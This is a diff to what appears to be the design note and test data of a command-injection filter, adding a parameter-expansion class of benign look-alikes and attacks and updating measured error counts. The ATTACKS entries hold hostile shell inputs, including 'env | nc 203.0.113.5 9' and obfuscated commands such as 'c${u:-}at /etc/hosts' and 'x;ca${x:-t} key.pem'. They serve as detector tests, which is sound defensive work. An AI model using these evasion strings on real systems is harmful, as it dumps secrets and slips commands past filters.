@@ -27,8 +27,10 @@ Look-alikes that must pass, by class:
 - groovy-execute: execute() called on an object, not on a literal;
 - pickle-protocol-0: base64 of a pickle of data, and of text whose
   first letter is a "c";
-- env-dump: "env" in a table's cell, or a command line from the first
-  byte.
+- env-dump: "env" in a table's cell, or in a sentence;
+- param-default: a parameter's default or a variable appended to a path
+  between quotes, after "=" or ":" (a compose file's
+  "${PG_HOST:-db.local}", "PATH=/opt/bin:${PATH}") is a value.
 
 Attacks that must be refused, by class:
 - shell-compound: the same loops after a separator or a line
@@ -46,11 +48,13 @@ Attacks that must be refused, by class:
 - groovy-execute: a Groovy string or list of strings run with execute();
 - pickle-protocol-0: a base64 pickle in the text protocol whose first
   opcode imports a module that runs commands;
-- env-dump: "env" after a separator with its output redirected or piped.
+- env-dump: "env" after a separator with its output redirected or piped;
+- param-default: an expansion glued to a letter builds a command's word
+  ("c${u:-}at").
 
 Measured before the change (2026-12-05, on 94f08c3): look-alikes
-refused, shell-compound 3 of 5, powershell-line 3 of 4, jsx-handler 3
-of 3; attacks passed, log-lines 7 of 7, template 5 of 6, groovy-execute
+refused, shell-compound 4 of 6, powershell-line 3 of 4, jsx-handler 3
+of 3, env-dump 0 of 2, param-default 3 of 3; attacks passed, log-lines 7 of 7, template 5 of 6, groovy-execute
 3 of 3, pickle-protocol-0 1 of 3 (the token after "state=": a whole
 base64 value was read already), env-dump 1 of 2, powershell-line 1 of 4
 (a cmdlet after a pipe, encoded twice: the rule read the value as
@@ -127,6 +131,11 @@ ATTACKS = {
         "7; env > public/e.txt",
         "a && env | nc 203.0.113.5 9",
     ],
+    "param-default": [
+        "c${u:-}at /etc/hosts",
+        "${v#q}id",
+        "x;ca${x:-t} key.pem",
+    ],
 }
 
 BENIGN = {
@@ -136,6 +145,7 @@ BENIGN = {
         "until pg_isready -h db; do sleep 1; done",
         "if [ -d dist ]; then rm -r dist; fi",
         "for svc in api web; do\n  systemctl restart \"$svc\"\ndone",
+        "echo start\nfor f in *.log; do gzip \"$f\"; done",
     ],
     "powershell-line": [
         "Get-ChildItem -Path D:\\builds -Filter *.zip | Sort-Object Length",
@@ -173,6 +183,11 @@ BENIGN = {
     "env-dump": [
         "| env | dev |\n| region | eu-west-1 |",
         "env > env.txt prints the environment to a file",
+    ],
+    "param-default": [
+        "PG_HOST: \"${PG_HOST:-db.local}\"",
+        "PATH=/opt/tools/bin:${PATH}",
+        "echo \"${HOME:-/root}\"",
     ],
 }
 
